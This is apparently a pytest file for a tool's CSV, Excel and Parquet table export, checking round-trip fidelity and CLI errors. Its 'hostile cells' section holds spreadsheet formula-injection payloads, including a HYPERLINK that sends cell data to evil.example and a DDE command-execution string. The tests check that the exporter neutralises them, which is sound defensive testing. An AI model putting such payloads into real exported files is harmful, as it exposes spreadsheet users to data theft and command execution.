"""Export of every table (plantrack.pipeline.outputs.export) to CSV, Excel and Parquet: each table read back
equals the one in a real database built from the project's generated papers."""
from __future__ import annotations

import math
import sqlite3
import sys

import pandas as pd
import pytest
from typer.testing import CliRunner

import paperfactory as pf
from plantrack import store
from plantrack.pipeline.cli import app
from plantrack.pipeline.outputs.export import DICTIONARY, EVERY, TABLES, ExportError, export_tables, read_table, read_tables
from plantrack.pipeline.stages.ingest import ingest
from plantrack.pipeline.reconcile.rebuild import reconcile

FORMULA = "=SUM(A1:A9) is not a formula"


@pytest.fixture(scope="module")
def db_path(tmp_path_factory):
    """Two consecutive SDP reports and their minutes, reconciled; one action's wording starts
    with '=' (a spreadsheet must keep it as text) and one carries non-ASCII punctuation."""
    root = tmp_path_factory.mktemp("export")
    raw = root / "raw"
    raw.mkdir()
    pf.make_report(raw / "sdp_oct.pdf", pf.sdp_spec("2019-10"))
    pf.make_report(raw / "sdp_nov.pdf", pf.sdp_spec("2019-11"))
    pf.make_minutes(raw / "minutes.pdf", pf.sdp_minutes_spec())
    (raw / "broken.pdf").write_bytes(b"not a pdf at all")
    db = store.connect(root / "plantrack.db")
    ingest(sorted(raw.glob("*.pdf")), db, root / "cache", workers=2)
    reconcile(db.conn)
    db.conn.execute("UPDATE actions SET text = ? WHERE id = (SELECT MIN(id) FROM actions)", (FORMULA,))
    db.conn.execute("UPDATE actions SET lead = ? WHERE id = (SELECT MAX(id) FROM actions)", ("Head of Service – “Early Help”",))
    db.conn.close()
    return root / "plantrack.db"


@pytest.fixture()
def conn(db_path):
    c = sqlite3.connect(db_path)
    yield c
    c.close()


def _value(v):
    """A cell as plain Python for comparing: NULL, NaN and empty text are all None."""
    if v is None or v is pd.NA or (isinstance(v, float) and math.isnan(v)) or v == "":
        return None
    if hasattr(v, "item"):
        v = v.item()
    return float(v) if isinstance(v, (int, float)) and not isinstance(v, bool) else v


def _rows(df: pd.DataFrame) -> list[tuple]:
    return [tuple(_value(v) for v in row) for row in df.astype(object).itertuples(index=False, name=None)]


def _same_in_excel(a: tuple, b: tuple) -> bool:
    """Excel keeps 15 significant digits of a number (a file's mtime loses its last ones)."""
    a, b = tuple(map(_value, a)), tuple(map(_value, b))
    return len(a) == len(b) and all(math.isclose(x, y, rel_tol=1e-13) if isinstance(x, float) and isinstance(y, float)
                                    else x == y for x, y in zip(a, b))


def _csv_text(v) -> str:
    """A whole-number or text cell as CSV prints it: NULL as an empty field, 3 not 3.0."""
    v = _value(v)
    text = "" if v is None else str(int(v)) if isinstance(v, float) else str(v)
    # text a spreadsheet would run as a formula is written with a leading ' (CSV injection)
    return "'" + text if isinstance(v, str) and text[:1] in ("=", "+", "-", "@") else text


def test_database_has_rows_in_every_table(conn):
    counts = {t: conn.execute(f'SELECT COUNT(*) FROM "{t}"').fetchone()[0] for t in TABLES}
    assert all(counts.values()), counts


def test_read_table_keeps_declared_types(conn):
    history = read_table(conn, "action_history")
    assert str(history["previous_action_id"].dtype) == "Int64" and history["previous_action_id"].isna().any()
    assert str(read_table(conn, "priorities")["current_score"].dtype) == "float64"
    empty = read_table(sqlite3.connect(":memory:"), "findings")
    assert empty.empty and {"kind", "detail", "document_id"} <= set(empty.columns)


def test_csv_round_trip(conn, tmp_path):
    files = export_tables(conn, "csv", tmp_path)
    assert sorted(f.name for f in files) == sorted([*(f"{t}.csv" for t in EVERY), DICTIONARY])
    exported = read_tables(conn)
    for table in EVERY:
        expected = exported[table]
        back = pd.read_csv(tmp_path / f"{table}.csv", dtype=str, keep_default_na=False, encoding="utf-8")
        assert list(back.columns) == list(expected.columns), table
        assert len(back) == len(expected), table
        for col in expected.columns:
            want = expected[col]
            if str(want.dtype) == "float64":  # printed with a decimal point: compare as numbers
                got = pd.to_numeric(back[col].replace("", None))
                assert [_value(v) for v in got] == [_value(v) for v in want], (table, col)
            else:
                assert list(back[col]) == [_csv_text(v) for v in want], (table, col)
    actions = pd.read_csv(tmp_path / "actions.csv", keep_default_na=False, dtype=str)
    assert "'" + FORMULA in set(actions["text"]) and "Head of Service – “Early Help”" in set(actions["lead"])
    documents = pd.read_csv(tmp_path / "documents.csv", dtype=str, keep_default_na=False)
    assert "not a supported format: PDF, Word (.docx) or HTML" in set(documents["error"])
    # each action names its report's plan and period; the tables beyond the contract's are there too
    reports = pd.read_csv(tmp_path / "reports.csv", keep_default_na=False, dtype=str).set_index("id")
    assert list(actions.columns[:4]) == ["id", "report_id", "plan", "period"]
    assert all(reports.loc[r, "plan"] == plan and reports.loc[r, "period"] == period
               for r, plan, period in zip(actions["report_id"], actions["plan"], actions["period"]))
    assert {"corrections", "corrected_values", "runs", "run_files", "meta", "latest_actions",
            "status_matrix"} <= set(EVERY)
    meta = pd.read_csv(tmp_path / "meta.csv", keep_default_na=False, dtype=str)
    assert "data_version" in set(meta["key"])
    dictionary = (tmp_path / DICTIONARY).read_text(encoding="utf-8")
    assert all(f"### {t} " in dictionary for t in EVERY)


def test_xlsx_round_trip(conn, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    files = export_tables(conn, "xlsx", tmp_path)
    assert [f.name for f in files] == ["plantrack.xlsx", DICTIONARY]
    wb = openpyxl.load_workbook(files[0], read_only=False)
    assert wb.sheetnames == list(EVERY)
    exported = read_tables(conn)
    for table in EVERY:
        expected = exported[table]
        rows = list(wb[table].iter_rows(values_only=True))
        assert list(rows[0]) == list(expected.columns), table
        assert len(rows) - 1 == len(expected), table
        for got, want in zip(rows[1:], _rows(expected)):
            assert _same_in_excel(got, want), (table, got, want)
    ws = wb["actions"]
    text_col = [c.value for c in ws[1]].index("text") + 1
    cell = ws.cell(row=2, column=text_col)
    assert cell.value == FORMULA and cell.data_type == "s"


def test_parquet_round_trip(conn, tmp_path):
    pytest.importorskip("pyarrow")
    files = export_tables(conn, "parquet", tmp_path)
    assert sorted(f.name for f in files) == sorted([*(f"{t}.parquet" for t in EVERY), DICTIONARY])
    exported = read_tables(conn)
    for table in EVERY:
        expected = exported[table]
        back = pd.read_parquet(tmp_path / f"{table}.parquet")
        assert list(back.columns) == list(expected.columns), table
        assert _rows(back) == _rows(expected), table
        for col in expected.columns:
            if str(expected[col].dtype) == "Int64":
                assert str(back[col].dtype) == "Int64", (table, col)
    findings = pd.read_parquet(tmp_path / "findings.parquet")
    assert (findings["kind"] == "worsened").any()
    assert findings.loc[findings["kind"] == "worsened", "detail"].str.contains("went from").all()


def test_unknown_format(conn, tmp_path):
    with pytest.raises(ValueError, match="unknown export format"):
        export_tables(conn, "json", tmp_path)


@pytest.mark.parametrize("fmt, module", [("xlsx", "openpyxl"), ("parquet", "pyarrow")])
def test_missing_extra_is_one_clear_line(db_path, tmp_path, monkeypatch, fmt, module):
    monkeypatch.setitem(sys.modules, module, None)  # makes `import module` fail as if not installed
    with pytest.raises(ExportError, match=rf"{fmt} export needs {module}: pip install 'plantrack\[{fmt}\]'"):
        export_tables(sqlite3.connect(db_path), fmt, tmp_path)
    result = CliRunner().invoke(app, ["export", "--db", str(db_path), "--format", fmt, "-o", str(tmp_path / "x")])
    assert result.exit_code == 2
    assert result.output.strip() == f"error: {fmt} export needs {module}: pip install 'plantrack[{fmt}]'"


def test_cli_export(db_path, tmp_path):
    runner = CliRunner()
    result = runner.invoke(app, ["export", "--db", str(db_path), "--format", "csv", "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted([*(f"{t}.csv" for t in EVERY), DICTIONARY])
    assert result.stdout == ""  # files only; the summary goes to stderr
    result = runner.invoke(app, ["export", "--db", str(db_path), "--format", "json", "-o", str(tmp_path / "o2")])
    assert result.exit_code == 2
    result = runner.invoke(app, ["export", "--db", str(tmp_path / "none.db"), "--format", "csv", "-o", str(tmp_path)])
    assert result.exit_code == 2 and not (tmp_path / "none.db").exists()


# ---- hostile cells (issue 15) ---------------------------------------------------------------------
HOSTILE = {
    "text": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "lead": "=cmd|' /C calc'!A0",
    "progress": "+1+cmd",
    "success_measure": "@SUM(1+1)",
    "timescale": "-2+3",
    "ref": "1.1\x00\x07\x1b[31m",
}


@pytest.fixture()
def hostile_db(db_path, tmp_path):
    """A copy of the database whose first action's cells are formulas and control characters."""
    copy = tmp_path / "hostile.db"
    src = sqlite3.connect(db_path)
    dst = sqlite3.connect(copy)
    src.backup(dst)
    src.close()
    sets = ", ".join(f"{c} = ?" for c in HOSTILE)
    dst.execute(f"UPDATE actions SET {sets} WHERE id = (SELECT MIN(id) FROM actions)", tuple(HOSTILE.values()))
    dst.commit()
    dst.close()
    return copy


def test_csv_neutralises_formulas_and_drops_control_characters(hostile_db, tmp_path):
    conn = sqlite3.connect(hostile_db)
    export_tables(conn, "csv", tmp_path / "out")
    conn.close()
    raw = (tmp_path / "out" / "actions.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM unless asked
    assert b"\x00" not in raw and b"\x07" not in raw and b"\x1b" not in raw
    first = pd.read_csv(tmp_path / "out" / "actions.csv", dtype=str, keep_default_na=False).iloc[0]
    for col, value in HOSTILE.items():
        if col == "ref":
            assert first[col] == "1.1[31m"  # the escape's ESC is gone, so it is inert text
        else:
            assert first[col] == "'" + value, col


def test_export_bom_option_writes_utf8_with_bom(hostile_db, tmp_path):
    runner = CliRunner()
    result = runner.invoke(app, ["export", "--db", str(hostile_db), "--format", "csv", "--bom", "-o", str(tmp_path / "x")])
    assert result.exit_code == 0, result.output
    for f in (tmp_path / "x").glob("*.csv"):
        assert f.read_bytes().startswith(b"\xef\xbb\xbf"), f.name
    back = pd.read_csv(tmp_path / "x" / "actions.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert "'" + HOSTILE["lead"] in set(back["lead"])
